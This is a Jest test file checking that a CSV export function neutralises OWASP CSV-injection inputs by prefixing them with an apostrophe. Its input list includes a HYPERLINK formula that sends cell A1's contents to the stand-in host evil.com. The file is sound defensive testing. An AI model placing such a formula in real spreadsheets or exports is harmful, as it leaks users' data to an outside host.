import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { csvField } from './incidents-csv.js';

describe('csvField (issue 16 item 1: OWASP CSV injection)', () => {
  it('prefixes text a spreadsheet would run as a formula with an apostrophe, quoted', () => {
    for (const text of [
      '=1+2',
      '+1',
      '-1+2',
      '@SUM(1+1)',
      '\tx',
      '\rx',
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    ]) {
      const field = csvField(text);
      expect(field.startsWith(`"'`)).toBe(true);
      expect(parse(`${field}\r\n`)).toEqual([[`'${text}`]]);
    }
  });

  it('leaves numbers, booleans and other text as they were (RFC 4180 quoting kept)', () => {
    expect(csvField(-33.5)).toBe('-33.5');
    expect(csvField(true)).toBe('true');
    expect(csvField(null)).toBe('');
    expect(csvField('Peshawar')).toBe('Peshawar');
    expect(csvField('a, "b"')).toBe('"a, ""b"""');
    expect(csvField('2023-07-12')).toBe('2023-07-12');
  });
});
